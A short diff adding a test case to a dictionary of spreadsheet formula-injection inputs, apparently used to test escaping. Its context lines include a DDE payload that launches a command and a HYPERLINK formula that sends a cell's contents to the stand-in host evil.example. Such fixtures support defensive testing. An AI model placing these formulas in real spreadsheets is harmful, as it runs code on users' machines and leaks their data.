@@ -19,6 +19,7 @@ PRINTABLE = {
     "escape of Excel": "a_x000D_b_x0041__x005F_",
     "formula": "=1+1",
     "program": "=cmd|' /C calc'!A0",
+    "formula in a second cell": "a; =1+1",
     "link": '=HYPERLINK("http://evil.example/?"&A1,"press")',
     "plus": "+1+1",
     "minus": "-2+3",
